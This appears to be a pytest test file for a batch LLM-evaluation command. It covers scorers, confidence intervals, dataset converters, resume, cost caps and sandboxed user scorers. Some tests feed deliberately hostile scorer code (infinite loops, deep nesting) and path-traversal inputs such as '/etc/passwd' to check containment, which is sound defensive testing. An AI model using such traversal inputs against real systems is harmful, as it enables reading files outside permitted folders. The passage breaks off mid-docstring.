"""Tests of `mas2c batch` on the threads engine: datasets, scorers, statistics, resume, cost cap,
the user scorer in the sandbox, the converters and the matched-cost CoT-SC baseline.

Systems run for real (compiled specs in the unisolated sandbox, or Docker where the test is about
isolation) against the loopback LLM test server, scripted per question.
"""

from __future__ import annotations

import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mas2c.batch import (
    BatchError,
    BatchOptions,
    load_rows,
    newcombe_paired,
    normalize_answer,
    normalize_math,
    parse_number,
    read_results,
    run_batch,
    score_text,
    slug,
    wilson,
)
from mas2c.batch_datasets import convert, convert_file
from mas2c.cli import main as cli_main
from mas2c.run import LLMConfig
from mas2c.testserver import ChatRequest, LLMTestServer

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).resolve().parent / "data" / "batch"
COT = ROOT / "specs" / "chain-of-thought.yaml"
SC = ROOT / "specs" / "self-consistency.yaml"
CODEGEN = ROOT / "specs" / "code-generation.yaml"


def _quiet(_message: str) -> None:
    pass


def qa_dataset(tmp_path: Path) -> tuple[Path, list[dict[str, Any]]]:
    out = tmp_path / "gsm8k.jsonl"
    convert_file("gsm8k", DATA / "gsm8k.jsonl", out)
    return out, [json.loads(line) for line in out.read_text().splitlines()]


def answering(rows: list[dict[str, Any]], wrong: dict[str, str] | None = None) -> Any:
    """A responder answering each row's question (structured {reasoning, answer}) correctly,
    or with `wrong[id]`; agents named in `by_agent` may answer otherwise."""
    wrong = wrong or {}

    def respond(req: ChatRequest) -> Any:
        for row in rows:
            if row["question"] in req.all_text:
                answer = wrong.get(row["id"], row["answer"])
                if answer == "!invalid":
                    return "this is not JSON"
                return {"reasoning": "step by step", "answer": answer}
        return {"reasoning": "?", "answer": "?"}

    return respond


def options(tmp_path: Path, dataset: Path, server: LLMTestServer, **kw: Any) -> BatchOptions:
    base: dict[str, Any] = {
        "run_dir": tmp_path / "run",
        "dataset": dataset,
        "spec": COT,
        "scorer": "numeric",
        "backend": "unisolated",
        "llm": LLMConfig(url=server.base_url),
        "on_warning": _quiet,
        "stream": io.StringIO(),
    }
    base.update(kw)
    return BatchOptions(**base)


# ------------------------------------------------------------------------------ scorers


@pytest.mark.parametrize(
    ("kind", "prediction", "expected", "score"),
    [
        ("exact", "  Paris. ", "paris", 1.0),
        ("exact", "Paris, France", "Paris", 0.0),
        ("exact", "yes", ["Yes", "yeah"], 1.0),
        ("exact", {"answer": "B"}, "b", 1.0),
        ("exact", "It is in France.\n**ANSWER:** Paris", "paris", 1.0),
        ("exact", "so the answer: Paris.", "Paris", 1.0),
        ("f1", "**Answer**:\n\nthe Eiffel Tower", "Eiffel Tower", 1.0),
        ("numeric", "The answer is $3,600.", "3600", 1.0),
        ("numeric", "so 72 clips", 72, 1.0),
        ("numeric", "0.75", "3/4", 1.0),
        ("numeric", "I don't know", "3", 0.0),
        ("numeric", "10.5", "10", 0.0),
        ("f1", "the Eiffel Tower", "Eiffel Tower", 1.0),
        ("f1", "Paris France", "Paris", 2 / 3),
        ("f1", "", "Paris", 0.0),
        ("math", "\\boxed{\\dfrac{3}{4}}", "\\frac{3}{4}", 1.0),
        ("math", "$42$", "42", 1.0),
        ("math", "Simplify: 6/8.\n**Final answer:** $\\frac{3}{4}$", "\\frac{3}{4}", 1.0),
        ("math", "42.0", "42", 1.0),
        ("math", "\\left(1, 2\\right)", "(1,2)", 1.0),
        ("math", "\\frac{3}{5}", "\\frac{3}{4}", 0.0),
    ],
)
def test_text_scorers(kind: str, prediction: Any, expected: Any, score: float) -> None:
    assert score_text(kind, prediction, expected) == pytest.approx(score)


def test_number_and_math_normalisation() -> None:
    assert parse_number("-7 degrees") == -7.0
    assert parse_number("12%") == 12.0
    assert parse_number("1/0") is None
    assert parse_number(True) is None
    assert normalize_math("The answer is $\\boxed{x^{2}}$.") == "x^{2}"


@settings(max_examples=200 if os.environ.get("CI") != "true" else 50, deadline=None)
@given(st.text(max_size=40), st.integers(-(10**12), 10**12))
@example("ANSWER:", 0)  # an expected answer that is itself a marker with nothing after it
@example("so the answer: 4", 0)
def test_scorers_properties(text: str, number: int) -> None:
    once = normalize_answer(text)
    assert normalize_answer(once) == once  # idempotent
    assert score_text("exact", text, text) == 1.0
    assert score_text("exact", f'  "{text}". ', text) == 1.0
    assert score_text("f1", text, text) == 1.0
    assert score_text("numeric", f"so the total is {number:,}.", str(number)) == 1.0
    assert score_text("numeric", f"{number + 1}", number) == 0.0
    assert score_text("math", f"\\boxed{{{number}}}", str(number)) == 1.0


def test_wilson_known_values() -> None:
    low, high = wilson(5, 10)
    assert (round(low, 4), round(high, 4)) == (0.2366, 0.7634)
    low, high = wilson(0, 10)
    assert low == 0.0 and round(high, 4) == 0.2775
    assert wilson(0, 0) == (0.0, 1.0)


def test_newcombe_paired_interval() -> None:
    # Uncorrelated pairs (phi = 0): the interval is Newcombe's hybrid score interval for two
    # independent proportions, lower = d - sqrt((p1 - L1)^2 + (U2 - p2)^2), upper likewise.
    a = [True, True, False, False] * 5
    b = [True, False, True, False] * 5
    diff, low, high = newcombe_paired(a, b)
    l1, u1 = wilson(10, 20)
    assert diff == 0.0
    assert low == pytest.approx(-(((0.5 - l1) ** 2 + (u1 - 0.5) ** 2) ** 0.5))
    assert high == pytest.approx(-low)
    # 12 pairs both pass, 9 only the first, 2 only the second, 21 neither (n = 44): positive
    # correlation makes the paired interval narrower than the unpaired one.
    a = [True] * 21 + [False] * 23
    b = [True] * 12 + [False] * 9 + [True] * 2 + [False] * 21
    diff, low, high = newcombe_paired(a, b)
    assert round(diff, 4) == 0.1591
    assert (round(low, 4), round(high, 4)) == (0.0182, 0.2892)
    (l1, _), (_, u2) = wilson(21, 44), wilson(14, 44)
    unpaired = ((21 / 44 - l1) ** 2 + (u2 - 14 / 44) ** 2) ** 0.5
    assert diff - low < unpaired


@settings(max_examples=60 if os.environ.get("CI") != "true" else 25, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.booleans()), min_size=1, max_size=60))
def test_intervals_contain_their_estimates(pairs: list[tuple[bool, bool]]) -> None:
    a, b = [x for x, _ in pairs], [y for _, y in pairs]
    n, k = len(a), sum(a)
    low, high = wilson(k, n)
    assert 0.0 <= low <= k / n <= high <= 1.0
    diff, dlow, dhigh = newcombe_paired(a, b)
    assert -1.0 <= dlow <= diff + 1e-12 and diff - 1e-12 <= dhigh <= 1.0
    back, blow, bhigh = newcombe_paired(b, a)  # swapping the sides mirrors the interval
    assert back == pytest.approx(-diff) and blow == pytest.approx(-dhigh)
    assert bhigh == pytest.approx(-dlow)


# ----------------------------------------------------------------------------- datasets


def test_converters_on_fixture_files() -> None:
    gsm = convert("gsm8k", DATA / "gsm8k.jsonl")
    assert [r["answer"] for r in gsm] == ["72", "10", "3600", "3"]
    assert gsm[0]["id"] == "gsm8k-0" and "Natalia" in gsm[0]["question"]
    math = convert("math", DATA / "math.jsonl")
    assert [r["answer"] for r in math] == ["\\frac{3}{4}", "42", "3"]
    hotpot = convert("hotpotqa", DATA / "hotpotqa.json")
    assert hotpot[0]["id"] == "5a8b57f25542995d1e6f1371" and hotpot[0]["answer"] == "Paris"
    assert "Eiffel Tower: The Eiffel Tower" in hotpot[0]["question"]
    assert hotpot[0]["question"].endswith(
        "Question: " + "Which city is the capital of the country where the Eiffel Tower stands?"
    )
    mbpp = convert("mbpp", DATA / "mbpp.jsonl")
    assert [r["entry_point"] for r in mbpp] == [
        "similar_elements",
        "is_not_prime",
        "heap_queue_largest",
    ]
    assert mbpp[1]["test"].startswith("def check(candidate):\n    assert is_not_prime(2)")


def test_converter_errors_are_located(tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"question": "q", "answer": "no final line"}\n')
    with pytest.raises(BatchError, match=r"bad.jsonl:1: the answer has no '#### <number>'"):
        convert("gsm8k", bad)
    bad.write_text('{"question": "q", "answer": "#### 1"}\nnot json\n')
    with pytest.raises(BatchError, match=r"bad.jsonl:2: not valid JSON"):
        convert("gsm8k", bad)
    out = tmp_path / "out.jsonl"
    assert not out.exists()
    from mas2c.batch_datasets import main

    assert main(["gsm8k", str(bad), "-o", str(out)]) == 1
    assert not out.exists()  # nothing half-written


def test_converter_output_makes_no_folder_and_limit_counts_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`-o` into a missing folder created it; `--limit 0` (or -1) converted one row."""
    from mas2c.batch_datasets import main

    source = str(DATA / "gsm8k.jsonl")
    assert main(["gsm8k", source, "-o", str(tmp_path / "missing" / "out.jsonl")]) == 2
    assert "missing does not exist" in capsys.readouterr().err
    assert main(["gsm8k", source, "-o", str(tmp_path)]) == 2
    assert "is a folder" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []
    for bad in ("0", "-1", "x"):
        with pytest.raises(SystemExit) as exit_:
            main(["gsm8k", source, "-o", str(tmp_path / "out.jsonl"), "--limit", bad])
        assert exit_.value.code == 2 and "--limit" in capsys.readouterr().err
    assert main(["gsm8k", source, "-o", str(tmp_path / "out.jsonl"), "--limit", "2"]) == 0
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 2


def test_load_rows_checks_lines_and_ids(tmp_path: Path) -> None:
    path = tmp_path / "d.jsonl"
    path.write_text('{"id": "a", "q": 1}\n\n{"id": "b", "q": 2}\n')
    rows = load_rows(path)
    assert [(r.key, r.line) for r in rows] == [("a", 1), ("b", 3)]
    path.write_text('{"id": "a"}\n{"id": "a"}\n')
    with pytest.raises(BatchError, match=r"d.jsonl:2: duplicate id 'a' \(first on line 1\)"):
        load_rows(path)
    path.write_text('{"id": "a"}\n[1, 2]\n')
    with pytest.raises(BatchError, match=r"d.jsonl:2: a row must be a JSON object"):
        load_rows(path)
    path.write_text('{"x": 1}\n{"x": 2}\n')
    assert [r.key for r in load_rows(path)] == ["row-0", "row-1"]
    assert slug("../../etc") not in ("..", ".") and "/" not in slug("a/b")
    assert slug("a/b") != slug("a-b")


def test_a_dataset_that_does_not_fit_fails_before_running(tmp_path: Path) -> None:
    dataset = tmp_path / "d.jsonl"
    dataset.write_text('{"id": "1", "problem": "2+2", "answer": "4"}\n')
    with LLMTestServer() as server:
        with pytest.raises(
            BatchError, match=r"d\.jsonl:1 \(id 1\): no field 'question' for input 'question'"
        ):
            run_batch(options(tmp_path, dataset, server))
        with pytest.raises(BatchError, match=r"--map names \['nope'\]"):
            run_batch(options(tmp_path, dataset, server, mapping={"nope": "problem"}))
        assert server.requests == []
    # mapped, it runs
    with LLMTestServer(answering([{"id": "1", "question": "2+2", "answer": "4"}])) as server:
        summary = run_batch(options(tmp_path, dataset, server, mapping={"question": "problem"}))
    assert summary["accuracy"] == 1.0


# -------------------------------------------------------------------------- end to end


def test_local_batch_scores_resumes_and_reports(tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    respond = answering(rows, wrong={"gsm8k-1": "11"})
    with LLMTestServer(respond) as server:
        summary = run_batch(options(tmp_path, dataset, server, workers=2))
        assert len(server.requests) == 4
        # resumed: nothing runs again
        again = run_batch(options(tmp_path, dataset, server, workers=2))
        assert len(server.requests) == 4
    assert summary["complete"] and summary["finished"] == 4 and summary["passed"] == 3
    assert summary["accuracy"] == 0.75 and summary["ci_method"] == "wilson"
    assert summary["ci95"] == [round(x, 4) for x in wilson(3, 4)]
    assert summary["tokens"] > 0 and summary["cost_usd"] > 0 and summary["llm_calls"] == 4
    assert summary["failures"] == {}
    assert again["accuracy"] == 0.75 and again["finished"] == 4
    results = read_results(tmp_path / "run" / "results.jsonl")
    wrong = results["gsm8k-1"]
    assert wrong["passed"] is False and wrong["prediction"] == "11" and wrong["expected"] == "10"
    assert results["gsm8k-2"]["prediction"] == "3600" and results["gsm8k-2"]["score"] == 1.0
    report = (tmp_path / "run" / "report.md").read_text()
    assert "| 75.0% | [30.1%, 95.4%] (wilson) | 3 | 4/4 |" in report
    assert "| gsm8k-1 | 0.00 | ok | 11 | 10 |" in report
    assert (tmp_path / "run" / "rows").is_dir()
    assert len(list((tmp_path / "run" / "rows").glob("*/mas/result.json"))) == 4


def test_failures_are_counted_by_error_code(tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    respond = answering(rows, wrong={"gsm8k-3": "!invalid"})
    with LLMTestServer(respond) as server:
        summary = run_batch(options(tmp_path, dataset, server, limit=4))
    assert summary["complete"] and summary["passed"] == 3 and summary["system_errors"] == 1
    row = read_results(tmp_path / "run" / "results.jsonl")["gsm8k-3"]
    (result_path,) = (tmp_path / "run" / "rows").glob("gsm8k-3*/mas/result.json")
    error = json.loads(result_path.read_text())["error"]
    code = error.get("code") or error["type"]  # the runtime's stable code, else the type
    assert code in ("structured_output", "StructuredOutputError")
    assert summary["failures"] == {code: 1}
    assert row["status"] != "ok" and row["error_code"] == code
    assert row["note"] == "no prediction in the result"


def test_cost_cap_stops_the_batch_cleanly(tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    with LLMTestServer(answering(rows)) as server:
        first = run_batch(options(tmp_path, dataset, server, workers=1, max_cost_usd=1e-9))
        assert len(server.requests) == 1  # the first row spent more than the cap: none after it
        assert not first["complete"] and first["finished"] == 1
        assert first["stopped"].startswith("cost cap")
        assert "**Stopped**: cost cap" in (tmp_path / "run" / "report.md").read_text()
        # the same command with a higher cap goes on where it stopped
        second = run_batch(options(tmp_path, dataset, server, workers=1, max_cost_usd=10.0))
        assert len(server.requests) == 4
    assert second["complete"] and second["stopped"] is None and second["accuracy"] == 1.0
    lines = (tmp_path / "run" / "results.jsonl").read_text().splitlines()
    assert len(lines) == 4


def test_resume_refuses_another_dataset_or_scorer(tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    with LLMTestServer(answering(rows)) as server:
        run_batch(options(tmp_path, dataset, server, limit=1))
        with pytest.raises(BatchError, match="scorer differ"):
            run_batch(options(tmp_path, dataset, server, limit=1, scorer="exact"))
        other = tmp_path / "other.jsonl"
        other.write_text(dataset.read_text().replace("Tom", "Tim"))
        with pytest.raises(BatchError, match="dataset_sha256 differ"):
            run_batch(options(tmp_path, other, server, limit=1))
        # other ids would run every row again beside the old ones
        with pytest.raises(BatchError, match="id_field differ"):
            run_batch(options(tmp_path, dataset, server, limit=1, id_field="question"))
        # a user scorer edited between runs measures something else
        scorer = tmp_path / "s.py"
        scorer.write_text("def score(prediction, row):\n    return 1.0\n")
        user = {"limit": 1, "scorer": f"python:{scorer}", "run_dir": tmp_path / "user"}
        run_batch(options(tmp_path, dataset, server, **user))
        scorer.write_text("def score(prediction, row):\n    return 0.0\n")
        with pytest.raises(BatchError, match="scorer_sha256 differ"):
            run_batch(options(tmp_path, dataset, server, **user))


def test_code_scorer_on_converted_mbpp(tmp_path: Path) -> None:
    dataset = tmp_path / "mbpp.jsonl"
    convert_file("mbpp", DATA / "mbpp.jsonl", dataset)
    rows = [json.loads(line) for line in dataset.read_text().splitlines()]

    def respond(req: ChatRequest) -> str:
        for row in rows:
            if row["prompt"].strip() in req.all_text:
                code = row["canonical_solution"]
                if row["id"] == "mbpp-3":
                    code = "def is_not_prime(n):\n    return False\n"
                return f"```python\n{code}\n```"
        return "```python\npass\n```"

    with LLMTestServer(respond) as server:
        summary = run_batch(
            options(tmp_path, dataset, server, spec=CODEGEN, scorer="code", workers=2)
        )
    assert summary["complete"] and summary["passed"] == 2 and summary["accuracy"] == round(2 / 3, 4)
    results = read_results(tmp_path / "run" / "results.jsonl")
    assert results["mbpp-3"]["passed"] is False and results["mbpp-2"]["passed"] is True
    assert (tmp_path / "run" / "rows").is_dir()


# ---------------------------------------------------------------- the user scorer (sandbox)

USER_SCORER = """
import os

MARKER = {marker!r}


def score(prediction, row):
    if os.path.exists(MARKER):
        return {{"score": 0.0, "note": "ran on the host"}}
    if any(k.startswith("OPENAI") for k in os.environ):
        return {{"score": 0.0, "note": "saw an OpenAI variable"}}
    if row["id"] == "gsm8k-2":
        return 5  # out of range: the host rejects it
    if row["id"] == "gsm8k-3":
        raise ValueError("the scorer broke")
    return {{"score": 1.0 if prediction == row["answer"] else 0.25, "note": "in the sandbox"}}
"""


@pytest.mark.docker
def test_user_scorer_runs_in_the_docker_sandbox(docker_ready: None, tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    marker = tmp_path / "host-marker"
    marker.write_text("only the host has this file")
    scorer = tmp_path / "my_scorer.py"
    scorer.write_text(USER_SCORER.format(marker=str(marker)))
    with LLMTestServer(answering(rows, wrong={"gsm8k-1": "11"})) as server:
        summary = run_batch(
            options(
                tmp_path,
                dataset,
                server,
                backend="docker",
                scorer=f"python:{scorer}",
                llm=LLMConfig(url=server.base_url, api_key="sk-secret-batch"),
            )
        )
    results = read_results(tmp_path / "run" / "results.jsonl")
    assert results["gsm8k-0"]["score"] == 1.0 and results["gsm8k-0"]["note"] == "in the sandbox"
    assert results["gsm8k-1"]["score"] == 0.25
    assert (
        results["gsm8k-2"]["scorer_error"] == "ScorerBadValue"
        and results["gsm8k-2"]["score"] == 0.0
    )
    assert "expected a bool or a number in [0, 1]" in results["gsm8k-2"]["note"]
    assert results["gsm8k-3"]["scorer_error"] == "ScorerRaised"
    assert "ValueError: the scorer broke" in results["gsm8k-3"]["note"]
    assert summary["ci_method"] == "normal" and summary["accuracy"] == round(1.25 / 4, 4)
    assert summary["failures"] == {"scorer:ScorerBadValue": 1, "scorer:ScorerRaised": 1}
    reports = [
        json.loads(p.read_text()) for p in (tmp_path / "run").glob("rows/*/score/sandbox.json")
    ]
    assert len(reports) == 4 and {r["isolation"] for r in reports} == {"container"}
    for path in (tmp_path / "run").rglob("*"):
        if path.is_file():
            assert b"sk-secret-batch" not in path.read_bytes(), path


HOSTILE_SCORER = """
def score(prediction, row):
    if row["id"] == "gsm8k-0":
        while True:
            pass
    if row["id"] == "gsm8k-1":
        deep = []
        for _ in range(200):
            deep = [deep]
        return deep
    if row["id"] == "gsm8k-2":
        return {1, 2}
    return float("nan")
"""


def test_hostile_user_scorers_are_contained(tmp_path: Path) -> None:
    dataset, rows = qa_dataset(tmp_path)
    scorer = tmp_path / "hostile.py"
    scorer.write_text(HOSTILE_SCORER)
    with LLMTestServer(answering(rows)) as server:
        summary = run_batch(
            options(
                tmp_path,
                dataset,
                server,
                scorer=f"python:{scorer}",
                test_timeout_s=1.0,
                workers=2,
            )
        )
    assert summary["not_recorded"] == []
    results = read_results(tmp_path / "run" / "results.jsonl")
    assert results["gsm8k-0"]["scorer_error"] == "ScorerTimeout"
    # too deep: the sandbox itself refuses the answer and says so in the scorer's result
    assert results["gsm8k-1"]["scorer_error"] == "ScorerFailed"
    assert results["gsm8k-1"]["score"] == 0.0
    assert results["gsm8k-2"]["scorer_error"] == "ScorerRaised"  # a set is not JSON
    assert results["gsm8k-3"]["scorer_error"] == "ScorerBadValue"  # NaN
    assert "unreadable" in results["gsm8k-3"]["note"]
    assert summary["accuracy"] == 0.0 and summary["complete"]
    assert sum(summary["failures"].values()) == 4


def test_a_broken_user_scorer_is_refused_before_running(tmp_path: Path) -> None:
    dataset, _ = qa_dataset(tmp_path)
    scorer = tmp_path / "s.py"
    scorer.write_text("def score(prediction, row)\n    return 1\n")
    with LLMTestServer() as server:
        with pytest.raises(BatchError, match=r"s.py:1:\d+: the scorer does not parse"):
            run_batch(options(tmp_path, dataset, server, scorer=f"python:{scorer}"))
        scorer.write_text("def grade(prediction, row):\n    return 1\n")
        with pytest.raises(BatchError, match="defines no top-level `def score"):
            run_batch(options(tmp_path, dataset, server, scorer=f"python:{scorer}"))
        with pytest.raises(BatchError, match="unknown scorer 'fuzzy'"):
            run_batch(options(tmp_path, dataset, server, scorer="fuzzy"))
        assert server.requests == []


# ------------------------------------------------------------------------------ baseline


def test_cot_sc_baseline_at_matched_cost(tmp_path: Path) -> None:
    """The system (self-consistency, 5 samples) against CoT-SC whose sample count is matched
    to the system's mean cost: about 5 samples of the same model."""
    dataset, rows = qa_dataset(tmp_path)
    system_answers = answering(rows)
    baseline_answers = answering(rows, wrong={"gsm8k-0": "71", "gsm8k-1": "11"})

    def respond(req: ChatRequest) -> Any:
        baseline = "Work through the problem in `reasoning`" in req.system
        return (baseline_answers if baseline else system_answers)(req)

    with LLMTestServer(respond) as server:
        summary = run_batch(
            options(tmp_path, dataset, server, spec=SC, baseline="cot-sc", pilot_rows=2)
        )
    base = summary["baseline"]
    assert base["status"] == "complete" and base["matched_on"] == "cost"
    assert 3 <= base["samples"] <= 8, base
    assert base["system"]["accuracy"] == 1.0 and base["baseline"]["accuracy"] == 0.5
    assert base["difference"] == 0.5 and base["difference_method"] == "newcombe"
    low, high = base["difference_ci95"]
    assert low < 0.5 < high
    ratio = base["baseline"]["cost_per_row_mean"] / base["system"]["cost_per_row_mean"]
    assert 0.5 < ratio < 2.0, ratio
    assert (tmp_path / "run" / "baseline" / "cot-sc.yaml").is_file()
    report = (tmp_path / "run" / "report.md").read_text()
    assert "## Baseline: CoT-SC at matched cost" in report
    assert "Difference (system - baseline): +50.0 points" in report


def test_baseline_refuses_the_code_scorer(tmp_path: Path) -> None:
    dataset = tmp_path / "mbpp.jsonl"
    convert_file("mbpp", DATA / "mbpp.jsonl", dataset)
    with LLMTestServer() as server:
        with pytest.raises(BatchError, match="no meaning with the code scorer"):
            run_batch(
                options(tmp_path, dataset, server, spec=CODEGEN, scorer="code", baseline="cot-sc")
            )
        # a baseline question field that a row lacks: located, before the system spends
        qa, _rows = qa_dataset(tmp_path)
        with pytest.raises(BatchError, match=r"gsm8k\.jsonl:1 \(id gsm8k-0\): the baseline's"):
            run_batch(options(tmp_path, qa, server, baseline="cot-sc", baseline_field="nope"))
        assert server.requests == []


# ------------------------------------------------------------------------------------ CLI


def test_cli_batch_and_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    dataset, rows = qa_dataset(tmp_path)
    with LLMTestServer(answering(rows)) as server:
        code = cli_main(
            [
                "batch",
                str(dataset),
                "--spec",
                str(COT),
                "--scorer",
                "numeric",
                "--sandbox",
                "unisolated",
                "--limit",
                "2",
                "--llm",
                server.base_url,
                "--run-dir",
                str(tmp_path / "cli"),
            ]
        )
    assert code == 0
    out, err = capsys.readouterr()
    assert "| 100.0% |" in out and "run folder:" in err  # stdout: the result; stderr: the rest
    assert cli_main(["batch", str(dataset), "--spec", str(COT), "--workers", "0"]) == 2
    assert cli_main(["batch", str(dataset), "--spec", str(COT), "--address", "x:1"]) == 2
    assert cli_main(["batch", str(tmp_path / "missing.jsonl"), "--spec", str(COT)]) == 2
    err = capsys.readouterr().err
    assert "--workers" in err and "--address is for --engine ray" in err and "missing.jsonl" in err
    assert "Traceback" not in err


def test_files_from_a_node_cannot_leave_the_row_folder(tmp_path: Path) -> None:
    """What a Ray node returns is written by the driver, inside rows/<id>/ only."""
    from mas2c.batch_ray import _checked_files, _safe_name, _write_files

    for bad in ("../x", "/etc/passwd", "a/../../x", "", ".", "a\\b", "a\0b", 7, None):
        assert _safe_name(bad) is None, bad
    assert _safe_name("mas/result.json") == "mas/result.json"
    folder = tmp_path / "rows" / "r"
    files = [("mas/result.json", b"{}"), ("../../escape.txt", b"x"), ("/tmp/abs", b"x"), ("ok", "s")]
    _write_files(folder, _checked_files(files))
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    assert written == ["rows/r/mas/result.json"]


def test_local_sandbox_from_a_driver_with_many_threads(tmp_path: Path) -> None:
    """A batch driver has many threads (workers, gateways, servers), so its address space is
    large; the unisolated sandbox's child must still start (its limits apply after the fork)."""
    import threading

    from mas2c.batch import run_code_tests, write_code_scorer

    release = threading.Event()
    threads = [threading.Thread(target=release.wait) for _ in range(160)]  # ~1.3 GB of stacks
    for thread in threads:
        thread.start()
    try:
        score = run_code_tests(
            "def f():\n    return 1\n",
            "def check(candidate):\n    assert candidate() == 1\n",
            "f",
            tmp_path / "score",
            scorer_dir=write_code_scorer(tmp_path / "scorer"),
            backend="unisolated",
            on_warning=_quiet,
        )
    finally:
        release.set()
        for thread in threads:
            thread.join()
    assert score.passed, score


# ------------------------------------------------------------------ malformed datasets


def test_malformed_dataset_lines_are_located(tmp_path: Path) -> None:
    """Every bad line is a BatchError at FILE:LINE, never a traceback (RecursionError,
    UnicodeDecodeError) or a silent coercion (NaN, 1e400, an id that is not an id)."""
    path = tmp_path / "d.jsonl"
    good = '{"id": "a", "q": "x", "answer": "1"}\n'
    cases: list[tuple[bytes, str]] = [
        (b'{"id": "b", "q": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "nested too deeply"),
        (b'{"id": "b", "q": "\xff"}\n', r"not UTF-8 text \(byte 0xff at column 19\)"),
        (b'{"id": "b", "answer": NaN}\n', "NaN is not a JSON number"),
        (b'{"id": "b", "answer": 1e400}\n', "a number out of range"),
        (b'{"id": 1.5}\n', "the id field 'id' is 1.5: expected a non-empty string"),
        (b'{"id": true}\n', "the id field 'id' is true"),
        (b'{"id": ""}\n', "the id field 'id' is \"\""),
        (b'{"id": {"k": 1}}\n', "the id field 'id' is"),
    ]
    for line, message in cases:
        path.write_bytes(good.encode() + b"\n" + line)
        with pytest.raises(BatchError, match=rf"d\.jsonl:3: (not valid JSON \()?{message}"):
            load_rows(path)
    # an id field the user names is required in every row
    path.write_text(good + '{"q": "y"}\n')
    assert [r.key for r in load_rows(path)] == ["a", "row-1"]
    with pytest.raises(BatchError, match=r"d\.jsonl:2: no id field 'id' \(--id-field\)"):
        load_rows(path, require_id=True)


def test_row_values_are_checked_against_the_spec_inputs_before_running(tmp_path: Path) -> None:
    dataset = tmp_path / "d.jsonl"
    dataset.write_text(
        '{"id": "1", "problem": "2+2", "answer": "4"}\n'
        '{"id": "2", "problem": 5, "answer": "5"}\n'
        '{"id": "3", "problem": null, "answer": "5"}\n'
    )
    with LLMTestServer() as server:
        with pytest.raises(BatchError) as caught:
            run_batch(options(tmp_path, dataset, server, mapping={"question": "problem"}))
        assert server.requests == []
    message = str(caught.value)
    assert f"{dataset}:2 (id 2): input 'question': expected string" in message
    assert "(field 'problem')" in message and f"{dataset}:3 (id 3)" in message
    assert f"{dataset}:1 " not in message
    assert not (tmp_path / "run" / "results.jsonl").exists()


def test_an_input_with_a_default_may_be_missing_from_rows(tmp_path: Path) -> None:
    spec = tmp_path / "cot.yaml"
    text = COT.read_text()
    assert "inputs:\n  question:\n" in text
    spec.write_text(
        text.replace(
            "inputs:\n  question:\n",
            "inputs:\n  hint:\n    type: string\n    default: none\n  question:\n",
        ).replace("{{ question }}\n", "{{ question }}\n      Hint: {{ hint }}\n")
    )
    dataset, rows = qa_dataset(tmp_path)
    with LLMTestServer(answering(rows)) as server:
        summary = run_batch(options(tmp_path, dataset, server, spec=spec, limit=2))
        assert all("Hint: none" in r.all_text for r in server.requests)
    assert summary["complete"] and summary["accuracy"] == 1.0


def test_converters_locate_malformed_records(tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    ok = '{"_id": "a", "question": "q", "answer": "x"}'
    cases = [
        (f'[\n {ok},\n {{"_id": "b", "question": 5, "answer": "x"}}\n]', 3, "no text field"),
        (
            f'[\n {ok},\n {{"_id": "b", "question": "q", "answer": "x", "context": '
            '{"title": 5, "sentences": [1]}}\n]',
            3,
            "the context must be",
        ),
        (
            f'[\n {ok},\n {{"_id": "b", "question": "q", "answer": "x", "context": [["t", 5]]}}\n]',
            3,
            "context item 1's sentences must be text",
        ),
        (
            f'[\n {ok},\n {{"_id": "a", "question": "q", "answer": "x"}}\n]',
            3,
            r"duplicate id 'a' \(first on line 2\)",
        ),
        (f"[\n {ok},\n ]", 3, "not valid JSON"),
        (f"[\n {ok}\n", 3, r"not valid JSON \(the array is not closed\)"),
        (
            f'[\n {ok},\n {{"_id": {{"x": 1}}, "question": "q", "answer": "x"}}\n]',
            3,
            "the id field '_id' is",
        ),
    ]
    for text, line, message in cases:
        bad.write_text(text)
        with pytest.raises(BatchError, match=rf"bad\.json:{line}: {message}"):
            convert("hotpotqa", bad)
    gsm = tmp_path / "g.jsonl"
    gsm.write_bytes(b'{"question": "q", "answer": "#### 1"}\n{"question": "\xff"}\n')
    with pytest.raises(BatchError, match=r"g\.jsonl:2: not UTF-8 text"):
        convert("gsm8k", gsm)
    gsm.write_text('{"question": "q", "answer": "so ####"}\n')
    with pytest.raises(BatchError, match=r"g\.jsonl:1: the answer's '####' line has no number"):
        convert("gsm8k", gsm)
    mbpp = tmp_path / "m.jsonl"
    mbpp.write_text('{"task_id": 1, "text": "t", "code": 5, "test_list": ["assert f(1) == 1"]}\n')
    with pytest.raises(BatchError, match=r"m\.jsonl:1: the field 'code' must be text"):
        convert("mbpp", mbpp)


def test_cli_refuses_flags_that_would_measure_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dataset, _rows = qa_dataset(tmp_path)
    base = ["batch", str(dataset), "--spec", str(COT), "--sandbox", "unisolated"]
    base += ["--run-dir", str(tmp_path / "run")]
    for flags in (
        ["--max-cost", "nan"],
        ["--max-cost", "-1"],
        ["--max-cost", "inf"],
        ["--test-timeout", "nan"],
        ["--test-timeout", "0"],
        ["--max-retries", "-1"],
        ["--map", "question"],
    ):
        assert cli_main([*base, *flags]) == 2, flags
        err = capsys.readouterr().err
        assert "Traceback" not in err and "mas2c batch:" in err, err
    assert not (tmp_path / "run").exists()
    with pytest.raises(BatchError, match="--max-cost must be a positive number"):
        run_batch(BatchOptions(run_dir=tmp_path / "r", dataset=dataset, max_cost_usd=float("nan")))


def test_kill_9_mid_batch_then_resume_loses_and_repeats_nothing(tmp_path: Path) -> None:
    """`mas2c batch` killed with SIGKILL mid-batch (rows in flight), a torn last line added
    (a crash inside a write), then the same command again: every row exactly once, every
